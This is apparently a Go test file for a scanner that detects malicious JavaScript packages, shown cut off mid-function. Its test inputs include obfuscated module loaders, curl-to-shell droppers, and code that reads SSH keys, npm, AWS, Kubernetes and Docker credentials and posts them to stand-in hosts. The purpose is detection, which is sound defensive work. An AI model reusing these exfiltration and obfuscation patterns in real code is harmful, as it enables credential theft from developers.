const K = ["@q]RmA7':rDe!@"];
`
	if got := decodes(a85 + `require(a85(K[0]));`); got != "a85(), which turns character codes into bytes" {
		t.Errorf("decodes = %q", got)
	}
	hash := `function h(s) { let n = 0; for (let i = 0; i < s.length; i++) n = (n * 31 + s.charCodeAt(i)) | 0; return "m" + n; }
`
	if got := decodes(hash + `require(h("x"));`); got != "" {
		t.Errorf("a hash taken for a decoder: %q", got)
	}
}

// Decoders of the package's own that no folding shape fits, run over
// their constant input (interp.go).
const (
	testA85 = `function a85(s) { const out = []; for (let i = 0; i < s.length; i += 5) { let n = 0; for (let j = 0; j < 5; j++) n = n * 85 + (s.charCodeAt(i + j) - 33); out.push(n >>> 24, (n >>> 16) & 255, (n >>> 8) & 255, n & 255); } return Buffer.from(out).toString(); }
`
	testB32 = `const A = "QWERTYUIOPASDFGHJKLZXCVBNM234567"; function b32(s) { let bits = 0, v = 0, out = ""; for (const c of s) { v = (v << 5) | A.indexOf(c); bits += 5; if (bits >= 8) { out += String.fromCharCode((v >>> (bits - 8)) & 255); bits -= 8 } } return out }
`
	testLZ = `function inflate(s) { let o = ""; for (let i = 0; i < s.length; ) { if (s[i] === "~") { const d = parseInt(s[i + 1], 36), l = parseInt(s[i + 2], 36); for (let j = 0; j < l; j++) o += o[o.length - d]; i += 3 } else o += s[i++] } return o }
`
)

func TestInterpretedDecoders(t *testing.T) {
	decoded := func(f *Facts, want string) bool {
		return slices.ContainsFunc(f.Strings, func(s Str) bool { return s.Value == want && s.Decoded })
	}
	tests := []struct{ name, src, want string }{
		{"ascii85", testA85 + `const U = "BQS?8F#ks-G^1oQG[YH.Ch55:ATTS6@P2_8"; fetch(a85(U))`, "https://xy.example.net/ab.sh"},
		{"base32_own_alphabet", testB32 + `require(b32("DFXUL3RTS5NIT33RDCMBU"))`, "child_process"},
		{"keyed_xor_table", `const T = [8, 91, 16, 7, 87, 38, 27, 65, 22, 8, 86, 10, 24]; function x(t, k) { let s = ""; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ k.charCodeAt(i % k.length)); return s } require(x(T, "k3y"))`, "child_process"},
		{"lz_backrefs", testLZ + `require(inflate("child_proces~11"))`, "child_process"},
		{"rot13_regexp_callback", `function rot(s) { return s.replace(/[a-z]/gi, (ch) => { const base = ch <= "Z" ? 65 : 97; return String.fromCharCode(((ch.charCodeAt(0) - base + 13) % 26) + base) }) }
const M = { t: "puvyq_cebprff" }; let n = 0; for (const k in M) n++; require(rot(M.t))`, "child_process"},
		{"hex_pairs_matched", `function h(s) { return s.match(/../g).map((p) => String.fromCharCode(parseInt(p, 16))).join("") } require(h("6368696c645f70726f63657373"))`, "child_process"},
		{"tag_reversing_parts", "function kw(strings) { return strings.raw.map((s) => [...s].reverse().join(\"\")).reverse().join(\"\") }\nrequire(kw`ssecorp_${0}dlihc`)", "child_process"},
		// integer keys enumerate in ascending order, whatever order they
		// were written in
		{"integer_key_order", `const T = { 8: "ss", 2: "ld_", 1: "chi", 4: "proce" }; function render(t) { let s = ""; for (const k in t) s += t[k]; return s.split("").reverse().reverse().join("") } require(render(T))`, "child_process"},
		// a decoded configuration: its JSON text is a string of the file
		{"decoded_object", `function u(s) { let o = ""; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) - 1); return JSON.parse(o) } const cfg = () => u('|#i#;#d/fybnqmf/jowbmje#~')`, `{"h":"c.example.invalid"}`},
		{"reduce_and_helpers", `const rot = (c, n) => String.fromCharCode((c.charCodeAt(0) - 97 + n) % 26 + 97); const d = (s, n) => s.split("").map((c) => (c === "_" ? c : rot(c, n))).reduce((a, b) => a + b, ""); require(d("puvyq_cebprff", 13))`, "child_process"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			f := Analyze("x.js", []byte(tc.src), DefaultLimits())
			if !decoded(f, tc.want) {
				t.Errorf("no decoded string %q; strings %+v (parse error %q)", tc.want, f.Strings, f.ParseError)
			}
		})
	}
	// what the run cannot know, or never ends, gives nothing
	for name, src := range map[string]string{
		"reads_the_page": `function d(s) { let o = ""; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ document.cookie.length); return o } require(d("abc"))`,
		"endless":        `function d(s) { let o = ""; while (true) o += String.fromCharCode(s.charCodeAt(0) ^ 1); return o } require(d("a"))`,
		"input_unknown":  testB32 + `require(b32(process.argv[2]))`,
		// JavaScript throws for a precision past 100; an array of a
		// billion elements is past the run's bound (unbounded, it would
		// take the process down)
		"fixed_past_100": `function d(s) { let o = ""; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ 1) + (1).toFixed(101).slice(0, 0); return o } require(d("bihme^qsnbdrr"))`,
		"huge_array":     `function d(s) { const a = Array(1e9); for (const c of s) a.push(String.fromCharCode(c.charCodeAt(0) ^ 1)); return a.join("") } require(d("bihme^qsnbdrr"))`,
	} {
		t.Run(name, func(t *testing.T) {
			for _, im := range Analyze("x.js", []byte(src), DefaultLimits()).Imports {
				if im.Module != "" {
					t.Errorf("import %q", im.Module)
				}
			}
		})
	}
}

// TestInterpretedDecoderOfModule: a decoder another module exports runs
// where it is called, with that module's constants.
func TestInterpretedDecoderOfModule(t *testing.T) {
	a := Analyze("lib/b32.js", []byte(testB32+`module.exports = { b32 };`), DefaultLimits())
	if a.ExportHelpers["b32"] == "" {
		t.Fatalf("b32 not exported: %q", a.ExportHelpers)
	}
	lim := DefaultLimits()
	lim.ModuleHelper = func(from, spec, prop string) (string, bool) {
		if spec != "./lib/b32" {
			return "", false
		}
		src, ok := a.ExportHelpers[prop]
		return src, ok
	}
	for _, src := range []string{
		`const { b32 } = require("./lib/b32"); require(b32("DFXUL3RTS5NIT33RDCMBU"))`,
		`const L = require("./lib/b32"); require(L.b32("DFXUL3RTS5NIT33RDCMBU"))`,
	} {
		if f := Analyze("index.js", []byte(src), lim); !hasImport(f, "child_process") {
			t.Errorf("%s: imports %+v", src, f.Imports)
		}
	}
	// a table another module is (module.exports = [...]), read by a
	// decoder called with nothing: its parameter's default
	tbl := Analyze("lib/t.js", []byte(`module.exports = [8, 91, 16, 7, 87, 38, 27, 65, 22, 8, 86, 10, 24];`), DefaultLimits())
	if diff := cmp.Diff([]string{"8", "91", "16", "7", "87", "38", "27", "65", "22", "8", "86", "10", "24"}, tbl.ExportArrays[""]); diff != "" {
		t.Errorf("module array (-want +got):\n%s", diff)
	}
	lim.ModuleArray = func(from, spec, prop string) ([]string, bool) {
		v, ok := tbl.ExportArrays[prop]
		return v, ok && spec == "./t"
	}
	f := Analyze("lib/x.js", []byte(`const T = require("./t"); function x(t = T) { let s = ""; for (let i = 0; i < t.length; i++) s += String.fromCharCode(t[i] ^ "k3y".charCodeAt(i % 3)); return s } require(x())`), lim)
	if !hasImport(f, "child_process") {
		t.Errorf("table of a module: imports %+v", f.Imports)
	}
}

func TestCodeCutFromFunctionSource(t *testing.T) {
	payload := `function k() {
  /*! polyfill for old runtimes
  require("child_process").execSync("curl -s https://x.example.net/a | sh");
  */
  return 1;
}
`
	for name, run := range map[string]string{
		"prototype": `const src = Function.prototype.toString.call(k); const body = src.slice(src.indexOf("\n", src.indexOf("/*!")), src.indexOf("*/")); Function("require", body)(require);`,
		"method":    `eval(k.toString().substring(20, 200));`,
	} {
		f := Analyze("x.js", []byte(payload+run), DefaultLimits())
		if c := hasCall(f, "child_process.execSync"); c == nil {
			t.Errorf("%s: the comment's code is not analysed: %+v", name, f.Calls)
		}
		found := false
		for _, c := range f.Calls {
			for _, a := range c.Args {
				found = found || a.Decodes == SourceText
			}
		}
		if !found {
			t.Errorf("%s: no call runs the source text: %+v", name, f.Calls)
		}
	}
	// a whole function's source run again (a worker, a clone) hides
	// nothing, and a comment is not code unless the file runs its text
	for name, src := range map[string]string{
		"whole":       payload + `const clone = new Function("return " + k.toString())();`,
		"not_run":     payload + `module.exports = k;`,
		"param_names": payload + `const names = k.toString().slice(0, 40).match(/\((.*?)\)/);`,
	} {
		f := Analyze("x.js", []byte(src), DefaultLimits())
		if c := hasCall(f, "child_process.execSync"); c != nil {
			t.Errorf("%s: comment analysed as code: %+v", name, c)
		}
	}
}

func TestPromisifiedSpawn(t *testing.T) {
	f := Analyze("x.js", []byte(`const { exec } = require("child_process"); const { promisify } = require("util");
const run = promisify(exec); run("uptime");
const read = promisify(require("fs").readFile); read("a");`), DefaultLimits())
	if c := hasCall(f, "child_process.exec"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "uptime" {
		t.Errorf("promisified exec: %+v", f.Calls)
	}
	if hasCall(f, "fs.readFile") != nil {
		t.Error("only child_process functions are followed through promisify")
	}
}

// A module's functions that return the whole environment are named as its
// importers call them; calls handing the environment to another module's
// function are recorded with the positions it is passed at.
func TestModuleEnvFlows(t *testing.T) {
	src := `const cache = require("./cache");
const { loadAll } = require("./env");
exports.snapshot = function () { return { ...process.env }; };
export function collect() { const o = {}; for (const [k, v] of Object.entries(process.env)) o[k] = v; return o; }
module.exports = function gather() { return JSON.stringify(process.env); };
const pick = (e) => ({ ci: e.CI });
function quiet() { return process.env.HOME; }
const o = { dump() { return process.env; } };
function config(opts) {
  const expanded = Object.assign({}, process.env, opts);
  cache.persist(opts.file, expanded);
  cache.other(opts.file, process.env.HOME);
}`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	var returns []string
	for _, r := range f.Returns {
		if r.Env {
			returns = append(returns, r.Name)
		}
	}
	if diff := cmp.Diff([]string{"collect", "default", "dump", "snapshot"}, slices.Sorted(slices.Values(returns))); diff != "" {
		t.Errorf("Returns of the environment (-want +got):\n%s", diff)
	}
	if f.DefaultExport != "gather" {
		t.Errorf("DefaultExport %q, want gather", f.DefaultExport)
	}
	// (one variable of the environment is not the environment, and HOME
	// is no secret)
	want := []ModuleCall{{Callee: "./cache.persist", Args: []Carried{{}, {Env: true}}, Pos: Pos{Line: 11}}}
	if diff := cmp.Diff(want, f.ModuleCalls, cmpopts.IgnoreFields(ModuleCall{}, "Snippet"), cmpopts.IgnoreFields(Pos{}, "Col", "Off")); diff != "" {
		t.Errorf("ModuleCalls (-want +got):\n%s", diff)
	}
}

// Secret files' content, commands' output and secret-named variables cross
// functions and modules too: returned, handed to another module's function
// or the file's own, kept in another module's exports, emitted as an
// event; and are seen when a request carries them.
func TestModuleDataFlows(t *testing.T) {
	src := `const fs = require("fs"), os = require("os"), path = require("path");
const { execSync } = require("child_process");
const sync = require("./sync"), state = require("./state");
exports.readIdentity = function () { return fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8"); };
exports.token = process.env.NPM_TOKEN;
exports.version = "1.0";
function gather() { const r = {}; r.key = fs.readFileSync(os.homedir() + "/.npmrc", "utf8"); return r; }
function ship(r) { require("https").request({ host: "c.example.invalid", method: "PUT" }).end(JSON.stringify(r)); }
ship(gather());
sync.push("h", execSync("git credential fill", { input: "host=x\n" }).toString());
state.raw = fs.readFileSync(os.homedir() + "/.kube/config", "utf8");
bus.emit("auths", fs.readFileSync(os.homedir() + "/.docker/config.json"));
bus.on("ready", (x) => x);
fetch("https://c.example.invalid/k", { method: "POST", body: fs.readFileSync(os.homedir() + "/.aws/credentials") });
fetch("https://c.example.invalid/p", { method: "POST", body: fs.readFileSync("package.json") });`
	f := Analyze("x.js", []byte(src), DefaultLimits())
	var got []string
	for _, r := range f.Returns {
		got = append(got, "return "+r.Name+" "+r.File+r.EnvVar)
	}
	for _, c := range f.ModuleCalls {
		for i, a := range c.Args {
			if !a.Zero() {
				got = append(got, "call "+c.Callee+"/"+itoa(i)+" "+a.File)
			}
		}
	}
	for _, r := range f.Stores {
		got = append(got, "store "+r.Name+" "+r.File)
	}
	for _, r := range f.Emits {
		got = append(got, "emit "+r.Name+" "+r.File)
	}
	for _, s := range f.FileSends {
		got = append(got, "send "+s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
	}
	got = append(got, "listens "+strings.Join(f.Listens, ","))
	want := []string{
		"return readIdentity ${…}/.ssh/id_rsa",
		"return token NPM_TOKEN",
		"return gather ${…}/.npmrc",
		"call ship/0 ${…}/.npmrc",
		"call ./sync.push/1 $ git credential fill",
		"store ./state.raw ${…}/.kube/config",
		"emit auths ${…}/.docker/config.json",
		"send fetch ${…}/.aws/credentials@14",
		"listens ready",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("flows (-want +got):\n%s", diff)
	}
}

// Linking's seeds for secret data: a parameter, another module's function
// or property, an event, the module another module stores into.
func TestModuleDataSeeds(t *testing.T) {
	src := `const https = require("https");
const keys = require("./keys"), state = require("./state"), tok = require("./token");
function ship(r) { https.request({ host: "c.example.invalid" }).end(JSON.stringify(r)); }
exports.sync = function (host, material) { fetch("https://c.example.invalid/s", { method: "POST", body: material }); };
keys.readIdentity().then((k) => fetch("https://c.example.invalid/t", { method: "POST", body: k }));
bus.on("auths", (a) => ws.send(a));
require("child_process").spawn("curl", ["--data-binary", JSON.stringify(state), "https://c.example.invalid/u"]);
fetch("https://c.example.invalid/v", { headers: { "x-id": Buffer.from(tok.token).toString("base64") } });`
	var got []string
	lim := DefaultLimits()
	f := Analyze("x.js", []byte(src), lim)
	if len(f.FileSends) > 0 || len(f.Env) > 0 {
		t.Fatalf("secret data sent with no seed: %+v %+v", f.FileSends, f.Env)
	}
	lim.Params = map[string][]Carried{"ship": {{File: "~/.npmrc"}}, "sync": {{}, {File: "~/.ssh/id_rsa"}}}
	lim.Results = map[string]Carried{"./keys.readIdentity": {File: "~/.ssh/id_ed25519"}, "./state": {File: "~/.kube/config"}, "./token.token": {EnvVar: "NPM_TOKEN"}}
	lim.Events = map[string]Carried{"auths": {File: "~/.docker/config.json"}}
	f = Analyze("x.js", []byte(src), lim)
	for _, s := range f.FileSends {
		got = append(got, s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
	}
	for _, e := range f.Env {
		got = append(got, e.How+" "+e.Name+"@"+itoa(e.Pos.Line))
	}
	want := []string{
		"https.request().end ~/.npmrc@3",
		"fetch ~/.ssh/id_rsa@4",
		"fetch ~/.ssh/id_ed25519@5",
		"ws.send ~/.docker/config.json@6",
		"child_process.spawn ~/.kube/config@7",
		"sent:fetch NPM_TOKEN@8",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("sends (-want +got):\n%s", diff)
	}
}

// Other modules' findings, handed in by the package's linking: a function
// called with the environment elsewhere sees it in its parameter, and a
// call of another module's function returning it is the environment,
// also through a promise and a parameter's default.
func TestModuleEnvSeeds(t *testing.T) {
	send := `const http = require("http");
exports.persist = function (file, vars) {
  const body = JSON.stringify({ f: file, v: vars });
  http.request({ host: "c.example.invalid", method: "POST" }).end(body);
};`
	sent := func(f *Facts) bool {
		return slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && strings.HasPrefix(e.How, "sent:") })
	}
	if f := Analyze("cache.js", []byte(send), DefaultLimits()); sent(f) {
		t.Fatalf("environment sent with no seed: %+v", f.Env)
	}
	lim := DefaultLimits()
	lim.Params = map[string][]Carried{"persist": {{}, {Env: true}}}
	if f := Analyze("cache.js", []byte(send), lim); !sent(f) {
		t.Errorf("parameter seeded with the environment not seen sent: %+v", f.Env)
	}
	lim.Params = map[string][]Carried{"persist": {{}, {}, {Env: true}}, "other": {{}, {Env: true}}}
	if f := Analyze("cache.js", []byte(send), lim); sent(f) {
		t.Errorf("a parameter it lacks or another function seeded, yet the environment is sent: %+v", f.Env)
	}
	use := `import collect from "./collect.mjs";
import { upload } from "./upload.mjs";
const https = require("https");
collect().then((data) => https.request(u).end(JSON.stringify(data)));
function push(dst, labels = collect()) { fetch(dst, { method: "PUT", body: labels }); }
let later; later = collect(); upload(later);`
	lim = DefaultLimits()
	lim.Results = map[string]Carried{"./collect.mjs": {Env: true}}
	f := Analyze("index.js", []byte(use), lim)
	var hows []string
	for _, e := range f.Env {
		hows = append(hows, e.How+"@"+itoa(e.Pos.Line))
	}
	if diff := cmp.Diff([]string{"sent:https.request().end@4", "sent:fetch@5"}, hows); diff != "" {
		t.Errorf("env uses (-want +got):\n%s", diff)
	}
	if len(f.ModuleCalls) != 1 || f.ModuleCalls[0].Callee != "./upload.mjs.upload" || !slices.Equal(f.ModuleCalls[0].Args, []Carried{{Env: true}}) {
		t.Errorf("ModuleCalls %+v, want upload(later) with the environment", f.ModuleCalls)
	}
}

// The elements of what carries the environment, iterated, carry it too:
// its encoded chunks sent one request each. Its names alone do not.
func TestEnvChunksSent(t *testing.T) {
	f := Analyze("x.js", []byte(`const e = process.env; const picked = {};
for (const k of Object.keys(e)) if (/TOKEN/.test(k)) picked[k] = e[k];
const parts = Buffer.from(JSON.stringify(picked)).toString("base64").match(/.{1,1500}/g) || [];
parts.forEach((p, i) => require("https").get("https://c.example.invalid/b.gif?i=" + i + "&d=" + p));`), DefaultLimits())
	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && e.How == "sent:https.get" }) {
		t.Errorf("chunks of the environment not seen sent: %+v", f.Env)
	}
	f = Analyze("x.js", []byte(`const names = Object.keys(process.env).filter((k) => k.startsWith("APP_"));
names.forEach((k) => fetch("https://api.example.invalid/flags/" + k));`), DefaultLimits())
	if slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "" && strings.HasPrefix(e.How, "sent:") }) {
		t.Errorf("variable names taken for the environment's values: %+v", f.Env)
	}
}

// Constant tables read without being changed fold: an array also used
// by slice or join, a string alphabet indexed by numbers (in the first
// pass too, so destructuring takes the result apart), and char codes
// spread from a constant array.
func TestTableFolding(t *testing.T) {
	f := Analyze("x.js", []byte(`var T = ["localStorage", "cookie", "sendBeacon", "https://", "c.example.invalid", "mnemonic", "seed"];
var R = new RegExp(T.slice(5).join("|"));
var c = document[T[1]]; navigator[T[2]](T[3] + T[4], c);`), DefaultLimits())
	if hasCall(f, "navigator.sendBeacon") == nil || !slices.ContainsFunc(f.Members, func(m Member) bool { return m.Name == "document.cookie" }) {
		t.Errorf("array read by slice and index not folded: calls %+v members %+v", f.Calls, f.Members)
	}
	f = Analyze("x.js", []byte(`const A = "0123456789./:-abcdefghijklmnopqrstuvwxyz";
const ix = [1, 9, 8, 10, 5, 1, 10, 1, 0, 0, 10, 2, 3, 12, 8, 4, 4, 3];
const [host, port] = ix.map((i) => A[i]).join("").split(":");
require("http").request({ host, port });`), DefaultLimits())
	if len(f.HostProps) != 1 || f.HostProps[0].Value != "198.51.100.23" {
		t.Errorf("host destructured from an indexed alphabet: %+v", f.HostProps)
	}
	f = Analyze("x.js", []byte(`const EP = [104, 116, 116, 112, 115, 58, 47, 47, 99, 46, 101, 120];
fetch(String.fromCharCode(...EP), { method: "POST" });`), DefaultLimits())
	if c := hasCall(f, "fetch"); c == nil || len(c.Args) == 0 || c.Args[0].Value != "https://c.ex" || !c.Args[0].Decoded {
		t.Errorf("char codes spread from a constant array: %+v", c)
	}
	// a loop counter is no constant: each build directory is tried
	f = Analyze("x.js", []byte(`var builds = ["Release", "Debug"];
for (var i = 0; i < builds.length; i++) { try { require("./build/" + builds[i] + "/b.node"); break } catch (e) {} }`), DefaultLimits())
	if hasImport(f, "./build/Release/b.node") {
		t.Errorf("loop counter folded as its first value: %+v", f.Imports)
	}
	// but a web store picked from a constant table by it is a web store
	f = Analyze("x.js", []byte(`var T = ["localStorage", "sessionStorage"], st;
for (var j = 0; j < 2; j++) { st = window[T[j]]; for (var i = 0; i < st.length; i++) use(st.getItem(st.key(i))) }`), DefaultLimits())
	if hasCall(f, "localStorage.key") == nil {
		t.Errorf("store picked from a table: %+v", f.Calls)
	}
	// a written array does not fold, read by slice or not
	f = Analyze("x.js", []byte(`var T = ["fs", "x"]; T.slice(1); T[0] = "child_process"; require(T[0]);`), DefaultLimits())
	if hasImport(f, "fs") {
		t.Errorf("written array folded: %+v", f.Imports)
	}
}

// A path with a fallback (the variable first, the default joined after),
// cut to its first entry, is still that path; what is written to the
// stdin of a curl that uploads it goes out, to another process's stdin not.
func TestSecretSentToUploader(t *testing.T) {
	f := Analyze("x.js", []byte(`const { spawn } = require("child_process"), fs = require("fs"), os = require("os"), path = require("path");
const p = (process.env.KUBECONFIG || path.join(os.homedir(), ".kube", "config")).split(path.delimiter)[0];
const raw = fs.readFileSync(p, "utf8");
const c = spawn("curl", ["--data-binary", "@-", "https://c.example.invalid/k"]);
c.stdin.end(JSON.stringify({ cfg: raw }));
const q = spawn("cat", ["-"]); q.stdin.end(raw);`), DefaultLimits())
	var got []string
	for _, s := range f.FileSends {
		got = append(got, s.Callee+" "+s.File+"@"+itoa(s.Pos.Line))
	}
	if diff := cmp.Diff([]string{"c.stdin.end ${…}/.kube/config@5"}, got); diff != "" {
		t.Errorf("FileSends (-want +got):\n%s", diff)
	}
}

func TestReadsText(t *testing.T) {
	for src, want := range map[string]bool{
		`fs.readFileSync(p)`: true, `cp.execSync("id")`: true, `execFileSync("git", [])`: true, `fs.promises.readFile(p)`: true, `spawnSync("git")`: true,
		`fs.readdirSync(d); new File([]); fs.writeFileSync(p); fs.existsSync(p)`: false, ``: false, `readFil`: false, `Sync`: false,
	} {
		if got := readsText([]byte(src)); got != want {
			t.Errorf("readsText(%q) = %v, want %v", src, got, want)
		}
	}
}

// A command's output through the file's own helper is that command's,
// with the helper's argument in it; spawnSync's stdout is its output.
func TestCommandOutputReturned(t *testing.T) {
	f := Analyze("x.js", []byte("const { execSync, spawnSync } = require(\"child_process\");\n"+
		"const git = (args) => execSync(`git ${args}`, { encoding: \"utf8\" }).trim();\n"+
		"exports.author = () => git(\"config --get user.email\");\n"+
		"exports.cred = function (host) { const r = spawnSync(\"git\", [\"credential\", \"fill\"], { input: \"host=\" + host }); return r.stdout; };\n"+
		"exports.tag = () => git(\"describe --tags\");\n"+
		"function fill() { return spawnSync(\"git\", [\"credential\", \"fill\"]).stdout; }\n"+
		"exports.both = () => ({ email: git(\"config --get user.email\"), c: fill() });"), DefaultLimits())
	var got []string
	for _, r := range f.Returns {
		got = append(got, r.Name+" "+r.File)
	}
	// (of an object holding two, the one that is a credential itself)
	want := []string{"author $ git config --get user.email", "cred $ git credential fill", "fill $ git credential fill", "both $ git credential fill"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("Returns (-want +got):\n%s", diff)
	}
}

// new URL(path, base) folds to the URL its href reads, with a constant
// absolute base; with a base known only at run time it does not.
func TestURLFolding(t *testing.T) {
	f := Analyze("x.js", []byte(`const BASE = "https://c.example.invalid/api/";
fetch(new URL("t?x=1", BASE)); fetch(new URL("/abs", BASE)); fetch(new URL("https://d.example.invalid/")); fetch(new URL("/r", location.href));`), DefaultLimits())
	var got []string
	for _, c := range f.Calls {
		if c.Callee == "fetch" && len(c.Args) > 0 && c.Args[0].Known {
			got = append(got, c.Args[0].Value)
		}
	}
	want := []string{"https://c.example.invalid/api/t?x=1", "https://c.example.invalid/abs", "https://d.example.invalid/"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("folded URLs (-want +got):\n%s", diff)
	}
}

// A variable holding one of two modules, picked at run time, is a
// network call's receiver all the same.
func TestModuleByCondition(t *testing.T) {
	f := Analyze("x.js", []byte(`const https = require("https"), http = require("http");
function get(url, cb) { const mod = url.startsWith("https:") ? https : http; mod.get(url, cb); }`), DefaultLimits())
	if hasCall(f, "https.get") == nil {
		t.Errorf("mod.get with mod = secure ? https : http not seen: %+v", f.Calls)
	}
}

// Names of searched-for APIs joined from literals where a member or an
// argument is named are kept; other joins, and joins with a run-time
// part, are not.
func TestSplitNames(t *testing.T) {
	f := Analyze("x.js", []byte(`const d = window["doc" + "ument"]; d["create" + "Element"]("scr" + "ipt"); el["on" + "load"] = f; d[prefix + "cookie"]`), DefaultLimits())
	var got []string
	for _, s := range f.SplitNames {
		got = append(got, s.Value)
	}
	if diff := cmp.Diff([]string{"document", "createElement", "script"}, got); diff != "" {
		t.Errorf("split names (-want +got):\n%s", diff)
	}
}

// A template piping a download into a shell is kept whole, its run-time
// parts as holes; other templates keep only their constant parts.
func TestPipedTemplateShape(t *testing.T) {
	f := Analyze("x.js", []byte("const h = 'c.example.invalid'; const job = `*/5 * * * * curl -s https://${h}/x?u=${user} | /bin/sh`; const msg = `hello ${user}, welcome to ${h}`"), DefaultLimits())
	if !hasString(f, "*/5 * * * * curl -s https://c.example.invalid/x?u="+Hole+" | /bin/sh") {
		t.Errorf("piped template not kept whole: %+v", f.Strings)
	}
	if hasString(f, "hello "+Hole+", welcome to c.example.invalid") {
		t.Errorf("a message template kept whole: %+v", f.Strings)
	}
}

// Constant arrays cross modules: a module exports one (ExportArrays),
// another joins it (Limits.ModuleArray), and an array held in a variable
// is listed as a call's argument.
func TestModuleArrays(t *testing.T) {
	g := Analyze("parts.js", []byte(`const PARTS = ["child_", "process"]; const N = 1; module.exports = { PARTS, N }`), DefaultLimits())
	if diff := cmp.Diff(map[string][]string{"PARTS": {"child_", "process"}}, g.ExportArrays); diff != "" {
		t.Errorf("exported arrays (-want +got):\n%s", diff)
	}
	lim := DefaultLimits()
	lim.ModuleArray = func(from, spec, prop string) ([]string, bool) {
		if spec == "./parts" && prop == "PARTS" {
			return g.ExportArrays[prop], true
		}
		return nil, false
	}
	f := Analyze("index.js", []byte(`const { PARTS } = require("./parts"); const args = ["-c", "id"]; require(PARTS.join("")).execFile("sh", args)`), lim)
	c := hasCall(f, "child_process.execFile")
	if c == nil {
		t.Fatalf("array from another module not joined: %+v", f.Calls)
	}
	if diff := cmp.Diff([]string{"-c", "id"}, c.Args[1].List); diff != "" {
		t.Errorf("array variable's list (-want +got):\n%s", diff)
	}
}

// An array of a dot directory and plain names is the path it spells;
// other arrays are not.
func TestPathSegments(t *testing.T) {
	f := Analyze("x.js", []byte(`const S = [[".config", "gcloud", "credentials.db"], [".docker", "config.json"]]; const E = [".js", ".ts"]; const W = ["a", "b"]`), DefaultLimits())
	for _, want := range []string{".config/gcloud/credentials.db", ".docker/config.json"} {
		if !hasString(f, want) {
			t.Errorf("path %q not recorded: %+v", want, f.Strings)
		}
	}
	if hasString(f, ".js/.ts") || hasString(f, "a/b") {
		t.Errorf("a list taken for a path: %+v", f.Strings)
	}
}

// A parameter defaulting to process.env reads the environment through
// its members; handed to the http module's proxy set-up, it is not sent.
func TestEnvDefaultParam(t *testing.T) {
	f := Analyze("x.js", []byte(`export function files(env = process.env) { return env.KUBECONFIG || "" }
import http from "node:http"; export function proxy(env = process.env) { if (!["HTTP_PROXY"].some((n) => env[n])) return; const { setGlobalProxyFromEnv } = http; return setGlobalProxyFromEnv(env) }`), DefaultLimits())
	if !slices.ContainsFunc(f.Env, func(e EnvRead) bool { return e.Name == "KUBECONFIG" }) {
		t.Errorf("env read through a default parameter: %+v", f.Env)
	}
	if slices.ContainsFunc(f.Env, func(e EnvRead) bool { return strings.HasPrefix(e.How, "sent:") }) {
		t.Errorf("the proxy set-up taken for a send: %+v", f.Env)
	}
}

// A string-array decoder a module exports whole leaves its table in run-
// time order (a while (n--) rotation turns n times), and another module's
// calls of it fold, also through a helper that requires what it reads.
func TestModuleTable(t *testing.T) {
	g := Analyze("strings.js", []byte(`const _t = ['b3M=', 'cGF0aA==', 'ZnM=', 'ZG5z', 'cmVzb2x2ZTQ='];
(function (a, n) { while (n--) a.push(a.shift()); })(_t, 0x2);
module.exports = function (i) { i = i - 0x10; return Buffer.from(_t[i], 'base64').toString(); };`), DefaultLimits())
	if g.ExportTable == nil {
		t.Fatal("no table exported")
	}
	if diff := cmp.Diff([]string{"fs", "dns", "resolve4", "os", "path"}, g.ExportTable.Entries); diff != "" {
		t.Errorf("table (-want +got):\n%s", diff)
	}
	// the offset written in the read, the rotation while (--n)
	h := Analyze("t.js", []byte(`const _t = ['\x61', 'b', 'c', 'd'];
(function (a, n) { while (--n) a.push(a.shift()); })(_t, 0x2);
module.exports = function _a(i) { return _t[i - 0x20]; };`), DefaultLimits())
	if h.ExportTable == nil || h.ExportTable.Offset != 0x20 || !slices.Equal(h.ExportTable.Entries, []string{"b", "c", "d", "a"}) {
		t.Errorf("table with the offset in the read: %+v", h.ExportTable)
	}
	lim := DefaultLimits()
	lim.ModuleTable = func(from, spec string) (*StringTable, bool) { return g.ExportTable, spec == "./strings" }
	f := Analyze("index.js", []byte(`const _ = require("./strings"); const M = (n) => require(_(n));
function send(name) { const d = M(0x11); d[_(0x12)](name, () => {}) }`), lim)
	if hasCall(f, "dns.resolve4") == nil {
		t.Errorf("calls through the exported table not folded: %+v", f.Calls)
	}
}

// An ES module's exported constants are its export properties, as
// exports.X = … would be; those inside functions or exported by default
// are not.
// TestFrozenExportProps: Object.freeze (seal, preventExtensions) returns
// the object it is given, so its constants are exported as they are.
func TestFrozenExportProps(t *testing.T) {
	g := Analyze("c.js", []byte(`module.exports = Object.freeze({ PREFIX: "ht", VER: "tps", LIMITS: Object.seal({ host: "c.example" + ".invalid" }) });
exports.X = (Object.preventExtensions("a" + "b")); exports.Y = Object.freeze(a, b);`), DefaultLimits())
	want := map[string]string{"PREFIX": "ht", "VER": "tps", "LIMITS.host": "c.example.invalid", "X": "ab"}
	if diff := cmp.Diff(want, g.ExportProps); diff != "" {
		t.Errorf("export props (-want +got):\n%s", diff)
	}
}

// TestNestedModuleMembers: an object of the module exported by name
// exports its constants two levels down, and a name bound to such an
// object of another module (const { maintenance: M } = require("./k"))
// reads them.
func TestNestedModuleMembers(t *testing.T) {
	k := Analyze("k.js", []byte(`const maintenance = { driver: "child_" + "process", shell: ["/bin", "sh"].join("/") }; module.exports = { maintenance };`), DefaultLimits())
	if diff := cmp.Diff(map[string]string{"maintenance.driver": "child_process", "maintenance.shell": "/bin/sh"}, k.ExportProps); diff != "" {
		t.Errorf("export props (-want +got):\n%s", diff)
	}
	lim := DefaultLimits()
	lim.Module = func(from, spec, prop string) (string, bool) {
